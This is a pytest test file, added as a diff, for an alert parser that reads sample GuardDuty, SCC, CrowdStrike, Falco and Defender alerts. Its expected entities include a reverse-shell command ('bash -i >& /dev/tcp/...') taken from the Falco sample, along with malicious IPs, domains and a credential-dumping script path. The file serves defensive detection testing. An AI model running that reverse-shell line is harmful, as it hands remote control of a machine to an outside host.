@@ -1,0 +1,190 @@
+"""The alert format catalogue on genuine public sample payloads (tests/fixtures/alerts/NOTICE).
+
+One row per file: the format that must match, the title, the severity and entities
+(kind, value, role) that must be among those read.
+"""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+from typer.testing import CliRunner
+
+from agent.alerts import parse_alert
+from agent.catalogue import FormatError, default_catalogue, load_catalogue
+from cli.main import app
+
+ALERTS = Path(__file__).parent / "fixtures" / "alerts"
+E = tuple[str, str, str | None]
+
+CASES: list[tuple[str, str, str, str | None, set[E]]] = [
+    (
+        "warren-guardduty.json",
+        "guardduty",
+        "EC2 instance i-0a1b2c3d4e5f67890 is querying a domain name associated with a known "
+        "command and control server.",
+        "high",
+        {("domain", "xr7v2k9q.com", "destination"), ("resource", "i-0a1b2c3d4e5f67890", "target")},
+    ),
+    (
+        "leveret-guardduty.json",
+        "guardduty",
+        "Drop Point domain name queried by EC2 instance i-99999999.",
+        "high",
+        {("domain", "3322.org", "destination")},
+    ),
+    (
+        "warren-scc.json",
+        "scc",
+        "Malware: Bad Domain on suspicious-instance",
+        "high",
+        {("domain", "download-update.online", None), ("ip", "161.97.182.121", "target")},
+    ),
+    (
+        "leveret-scc.json",
+        "scc",
+        "Execution: Cryptocurrency Mining Hash Match on web-server-prod-01",
+        "critical",
+        {("user", "attacker@external-domain.com", "actor")},
+    ),
+    (
+        "warren-crowdstrike-falcon.json",
+        "crowdstrike_stream",
+        "Cobalt Strike Beacon Activity on DESKTOP-WS0042",
+        "critical",
+        {
+            ("host", "DESKTOP-WS0042", "target"),
+            ("user", "t.yamamoto", "actor"),
+            ("ip", "1.12.66.17", "destination"),
+            ("hash", "7b4d61c3a058c0f9e7a24d2ef5c1b4a3d8e9f0a1b2c3d4e5f6a7b8c9d0e1f2a3", None),
+        },
+    ),
+    (
+        "warren-falco.json",
+        "falco",
+        "Redirect STDOUT/STDIN to Network Connection in Container in web-frontend",
+        "critical",
+        {
+            ("user", "www-data", "actor"),
+            ("ip", "155.94.163.103", "destination"),
+            ("process", "bash -i >& /dev/tcp/155.94.163.103/8080 0>&1", None),
+            ("host", "k8s-worker-node-03", "target"),
+        },
+    ),
+    (
+        "warren-defender-endpoint.json",
+        "defender_endpoint",
+        "Suspicious credential dumping activity on pc-sales-0215.corp.example-inc.local",
+        "high",
+        {
+            ("host", "pc-sales-0215.corp.example-inc.local", "target"),
+            ("user", "k.suzuki", "actor"),
+            ("ip", "43.208.238.110", None),
+            ("file", "C:\\Users\\k.suzuki\\AppData\\Local\\Temp\\mimi.ps1", None),
+        },
+    ),
+]
+
+
+def load(name: str) -> dict[str, Any]:
+    data: dict[str, Any] = json.loads((ALERTS / name).read_text())
+    return data
+
+
+@pytest.mark.parametrize(
+    ("name", "fmt", "title", "severity", "entities"), CASES, ids=[c[0] for c in CASES]
+)
+def test_sample_payloads(
+    name: str, fmt: str, title: str, severity: str | None, entities: set[E]
+) -> None:
+    alert = parse_alert(load(name))
+    assert (alert.format, alert.title, alert.severity) == (fmt, title, severity)
+    assert entities <= {(e.kind, e.value, e.role) for e in alert.entities}
+    assert alert.event_time is not None
+
+
+def test_every_fixture_is_in_the_table_and_named_in_notice() -> None:
+    files = {p.name for p in ALERTS.glob("*.json")}
+    notice = (ALERTS / "NOTICE").read_text()
+    assert {c[0] for c in CASES} <= files
+    assert all(name in notice for name in files)
+
+
+def test_every_shipped_format_has_a_sample() -> None:
+    tested = {c[1] for c in CASES} | {"generic", "guardduty_eventbridge"}
+    shipped = {f.name for f in default_catalogue().formats}
+    assert shipped - tested == set()
+
+
+def test_ids_under_non_hash_keys_are_not_hashes() -> None:
+    alert = parse_alert(load("warren-crowdstrike-falcon.json"))
+    values = {i.value for i in alert.indicators}
+    assert "a1b2c3d4e5f6a1b2c3d4e5f6a1b2c3d4" not in values  # customerIDString
+    assert "f1e2d3c4b5a6f1e2d3c4b5a6f1e2d3c4" not in values  # SensorId
+    assert "falcon.crowdstrike.com" not in values  # the console link
+
+
+def test_user_format_overrides_and_extends(tmp_path: Path) -> None:
+    (tmp_path / "falco.toml").write_text(
+        'name = "falco"\nsource = "runtime"\n[match]\nall = ["rule"]\n'
+        '[fields]\ntitle = "rule"\nseverity = "priority"\n'
+        '[severity]\nwords = { critical = "low" }\n'
+    )
+    (tmp_path / "acme.toml").write_text(
+        'name = "acme"\npriority = 1\n[match]\nall = ["acme_alert"]\n'
+        '[fields]\ntitle = "acme_alert.headline"\nseverity = "acme_alert.level"\n'
+        '[severity]\nranges = [[0, "low"], [5, "high"]]\n'
+        '[[entities]]\nkind = "user"\nrole = "actor"\nvalue = "acme_alert.who"\n'
+    )
+    catalogue = load_catalogue(tmp_path)
+    falco = parse_alert(load("warren-falco.json"), catalogue=catalogue)
+    assert (falco.source, falco.severity) == ("runtime", "low")
+    acme = parse_alert(
+        {"acme_alert": {"headline": "Door left open", "level": 6, "who": "j.doe"}},
+        catalogue=catalogue,
+    )
+    assert (acme.format, acme.title, acme.severity) == ("acme", "Door left open", "high")
+    assert [(e.kind, e.value, e.role) for e in acme.entities] == [("user", "j.doe", "actor")]
+
+
+@pytest.mark.parametrize(
+    ("text", "message"),
+    [
+        ('name = "x"\n[match]\nall = ["a"]\n[fields]\ntitle = "a[["\n', "bad expression"),
+        ('name = "x"\n[match]\nall = ["a"]\n', "fields"),
+        ('name = "x"\nbogus = 1\n[match]\n[fields]\ntitle = "a"\n', "bogus"),
+        ("name = \n", "Invalid"),
+    ],
+)
+def test_bad_format_files_name_file_and_problem(tmp_path: Path, text: str, message: str) -> None:
+    (tmp_path / "x.toml").write_text(text)
+    with pytest.raises(FormatError, match=message) as err:
+        load_catalogue(tmp_path)
+    assert "x.toml" in str(err.value)
+
+
+def test_cli_parse_shows_format_and_entities(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.delenv("SOCBOT_CONFIG", raising=False)
+    result = CliRunner().invoke(
+        app, ["alerts", "parse", str(ALERTS / "warren-crowdstrike-falcon.json")]
+    )
+    assert result.exit_code == 0, result.output
+    assert "format: crowdstrike_stream" in result.output
+    assert "severity: critical" in result.output
+    assert "t.yamamoto" in result.output and "actor" in result.output
+    as_json = CliRunner().invoke(
+        app, ["alerts", "parse", "--json", str(ALERTS / "warren-falco.json")]
+    )
+    assert json.loads(as_json.output)["format"] == "falco"
+
+
+def test_cli_parse_bad_format_dir_is_one_line(tmp_path: Path) -> None:
+    (tmp_path / "x.toml").write_text("name = 1\n")
+    result = CliRunner().invoke(
+        app, ["alerts", "parse", "--formats", str(tmp_path), str(ALERTS / "warren-falco.json")]
+    )
+    assert result.exit_code == 2
+    assert "x.toml" in result.output
